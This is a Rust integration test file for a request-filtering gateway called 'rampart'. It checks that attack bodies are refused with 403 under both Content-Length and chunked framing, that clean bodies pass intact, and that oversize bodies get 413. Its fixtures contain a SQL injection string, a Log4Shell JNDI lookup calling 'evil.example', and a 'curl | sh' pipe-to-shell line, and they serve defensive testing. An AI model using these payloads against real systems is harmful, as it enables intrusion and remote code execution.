//! Request bodies are judged before an upstream gets them complete, whatever their framing
//! and size; clean bodies arrive byte for byte.

use rampart_integration::*;

fn raw_post(path: &str, content_type: &str, framing: &str, body: &[u8]) -> Vec<u8> {
    let mut raw = format!(
        "POST {path} HTTP/1.1\r\nHost: gateway.test\r\nUser-Agent: rampart-tests/1.0\r\nX-Origin-Verify: {ORIGIN_SECRET}\r\nContent-Type: {content_type}\r\nConnection: close\r\n"
    )
    .into_bytes();
    match framing {
        "length" => {
            raw.extend_from_slice(format!("Content-Length: {}\r\n\r\n", body.len()).as_bytes());
            raw.extend_from_slice(body);
        }
        _ => {
            raw.extend_from_slice(b"Transfer-Encoding: chunked\r\n\r\n");
            for chunk in body.chunks(7000) {
                raw.extend_from_slice(format!("{:x}\r\n", chunk.len()).as_bytes());
                raw.extend_from_slice(chunk);
                raw.extend_from_slice(b"\r\n");
            }
            raw.extend_from_slice(b"0\r\n\r\n");
        }
    }
    raw
}

/// A chat request with `filler` bytes of prose and an optional structural field.
fn chat(filler: usize, extra: &str) -> Vec<u8> {
    let prose =
        "Please review this shell script: rm -rf /tmp/build && curl http://example.com | sh. "
            .repeat(filler / 80 + 1);
    format!(
        r#"{{"model":"gpt-4o"{extra},"messages":[{{"role":"user","content":{}}}]}}"#,
        serde_json::json!(prose)
    )
    .into_bytes()
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn attacks_in_bodies_are_refused_under_every_framing_and_size() {
    let up = SeedUpstreams::start(1).await;
    let rampart = Rampart::start(&seed_config(&up, ""), SEED_LISTENERS).await;
    let web = rampart.addr("web");
    let log4j = r#","user":"${jndi:ldap://evil.example/a}""#;
    let cases: Vec<(&str, &str, &str, Vec<u8>)> = vec![
        (
            "small form, Content-Length",
            "application/x-www-form-urlencoded",
            "length",
            b"q=1' UNION SELECT password FROM users--".to_vec(),
        ),
        (
            "small form, chunked",
            "application/x-www-form-urlencoded",
            "chunked",
            b"q=1' UNION SELECT password FROM users--".to_vec(),
        ),
        (
            "200 KB chat, Content-Length",
            "application/json",
            "length",
            chat(200_000, log4j),
        ),
        (
            "200 KB chat, chunked",
            "application/json",
            "chunked",
            chat(200_000, log4j),
        ),
        (
            "XML body",
            "application/xml",
            "length",
            b"<a><b>java.lang.Runtime</b></a>".to_vec(),
        ),
    ];
    for (what, ct, framing, body) in cases {
        let r = send_raw(
            web,
            EXTERNAL_PEER,
            &raw_post("/v1/chat/completions", ct, framing, &body),
        )
        .await
        .expect(what);
        assert_eq!(r.status, 403, "{what}: {:?}", r.json());
        assert!(
            r.json()["request_id"]
                .as_str()
                .is_some_and(|id| id.len() == 16),
            "{what}"
        );
        assert!(r.json()["rule"].as_str().is_some(), "{what}");
    }
    // A held body is judged after the upstream has the request header: on a refusal the
    // upstream sees that header and no byte of the body (Pingora ends the message empty).
    for r in up.litellm[0].requests() {
        assert!(
            r.body.is_empty(),
            "bytes of a refused body reached the upstream: {:?}",
            String::from_utf8_lossy(&r.body[..r.body.len().min(80)])
        );
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn clean_bodies_arrive_byte_for_byte() {
    let up = SeedUpstreams::start(1).await;
    let rampart = Rampart::start(&seed_config(&up, ""), SEED_LISTENERS).await;
    let web = rampart.addr("web");
    let bodies = [
        chat(100, ""),
        chat(60_000, ""),
        chat(300_000, ""),
        chat(2_500_000, ""),
    ];
    for (i, body) in bodies.iter().enumerate() {
        for framing in ["length", "chunked"] {
            let r = send_raw(
                web,
                EXTERNAL_PEER,
                &raw_post("/v1/chat/completions", "application/json", framing, body),
            )
            .await
            .expect("answer");
            assert_eq!(
                r.status,
                200,
                "body {i} ({} bytes, {framing}): {:?}",
                body.len(),
                String::from_utf8_lossy(&r.body)
            );
            let got = up.litellm[0].requests().pop().expect("recorded");
            assert_eq!(got.body.len(), body.len(), "body {i} {framing}: length");
            assert!(
                got.body == body.as_slice(),
                "body {i} {framing}: content differs"
            );
        }
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn oversize_bodies_can_be_refused_with_413() {
    let up = SeedUpstreams::start(1).await;
    let config = seed_config(&up, "").replace(
        "name = \"web\"\nlisten = \"0.0.0.0:80\"",
        "name = \"web\"\nlisten = \"0.0.0.0:80\"\nbody_inspection = { limit_bytes = 100000, oversize = \"refuse\" }",
    );
    let rampart = Rampart::start(&config, SEED_LISTENERS).await;
    let web = rampart.addr("web");
    for framing in ["length", "chunked"] {
        let r = send_raw(
            web,
            EXTERNAL_PEER,
            &raw_post(
                "/v1/chat/completions",
                "application/json",
                framing,
                &chat(150_000, ""),
            ),
        )
        .await
        .expect("answer");
        assert_eq!(r.status, 413, "{framing}");
        assert_eq!(r.json()["rule"], "body.too_large");
    }
    let r = send_raw(
        web,
        EXTERNAL_PEER,
        &raw_post(
            "/v1/chat/completions",
            "application/json",
            "length",
            &chat(50_000, ""),
        ),
    )
    .await
    .expect("answer");
    assert_eq!(r.status, 200);
    let with_body: Vec<usize> = up.litellm[0]
        .requests()
        .iter()
        .map(|r| r.body.len())
        .filter(|n| *n > 0)
        .collect();
    assert_eq!(
        with_body.len(),
        1,
        "only the body under the limit was delivered: {with_body:?}"
    );
}
